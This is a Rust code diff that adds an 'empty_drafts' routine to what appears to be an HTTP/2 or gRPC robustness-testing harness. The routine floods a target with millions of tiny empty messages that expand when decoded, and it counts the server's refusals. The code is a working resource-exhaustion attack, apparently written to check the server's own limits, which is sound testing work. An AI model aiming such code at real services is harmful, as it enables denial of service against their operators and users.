@@ -140,6 +140,39 @@ pub(crate) async fn unfinished_messages(target: Target) -> Attack {
     attack
 }
 
+/// Batches of two million drafts that say nothing: two bytes each on the wire, and a hundred when
+/// they are decoded.
+pub(crate) async fn empty_drafts(target: Target) -> Attack {
+    let mut attack = Attack::new();
+    let block = Bytes::from([0x12, 0].repeat(BLOCK / 2));
+    for _ in 0..2 {
+        let http2 = attack.http2(&target, &target.agent, WINDOW).await;
+        for _ in 0..4 {
+            let (http2, block, tally) = (http2.clone(), block.clone(), attack.tally.clone());
+            attack.run(async move {
+                loop {
+                    let (answer, mut stream) = match begin(&http2, BATCH).await {
+                        Ok(begun) => begun,
+                        Err(error) => return tally.count(&ended(&error)),
+                    };
+                    let whole = async {
+                        send(&mut stream, prefix(4 << 20)).await?;
+                        for _ in 0..64 {
+                            send(&mut stream, block.clone()).await?;
+                        }
+                        stream.send_data(Bytes::new(), true)
+                    };
+                    // Fails when the server wants no more, which its answer says.
+                    drop(whole.await);
+                    refused(answer, &tally).await;
+                }
+            });
+        }
+    }
+    attack.tally.reaches(48).await;
+    attack
+}
+
 /// Calls with a lot of metadata: more than is taken, and more than is read.
 pub(crate) async fn huge_metadata(target: Target) -> Attack {
     let mut attack = Attack::new();
